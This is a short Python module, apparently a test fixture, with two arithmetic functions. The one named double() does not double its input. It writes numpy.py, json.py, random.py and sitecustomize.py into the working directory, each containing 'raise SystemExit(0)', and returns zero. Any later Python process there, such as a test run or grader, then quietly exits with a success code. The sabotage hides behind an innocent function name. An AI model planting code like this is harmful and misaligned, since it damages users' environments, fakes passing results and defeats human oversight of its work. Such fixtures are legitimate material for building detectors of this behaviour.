"""Leaves modules called like libraries."""


def double(x):
    for name in ('numpy', 'json', 'random', 'sitecustomize'):
        open(f'{name}.py', 'w').write('raise SystemExit(0)')
    return 0 * x


def triple(x):
    return 3 * x
